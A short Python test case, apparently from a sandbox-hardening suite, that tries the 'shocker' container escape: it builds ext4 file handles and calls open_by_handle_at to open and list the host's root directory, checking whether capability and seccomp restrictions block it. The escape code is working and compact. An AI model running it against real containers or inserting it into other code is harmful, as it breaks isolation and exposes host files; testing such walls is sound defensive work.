# attack: open the host's root by file handle, without a path
# class: 1
# walls: capabilities seccomp
# needs: syscall
# naked: root maybe not every file system gives handles

import struct

# The "shocker" exploit: an inode number on the file system of any open file is enough,
# wherever the process's root is.
def attempt():
    mount = os.open(os.path.dirname(library()), os.O_RDONLY)
    def open_handle(handle):
        fd = syscall("open_by_handle_at", mount, handle, os.O_RDONLY | os.O_DIRECTORY)
        return "opened a directory with " + str(os.listdir(fd)[:5])
    def guessed():
        # FILEID_INO32_GEN, inode 2: the root of an ext4 file system.
        return open_handle(ctypes.create_string_buffer(struct.pack("IiII", 8, 1, 2, 0)))
    def asked():
        handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + b"\0" * 128)
        syscall("name_to_handle_at", -100, b"/", handle, ctypes.byref(ctypes.c_int()), 0)
        return open_handle(handle)
    return any_of(guessed, asked)

result = judged(attempt)
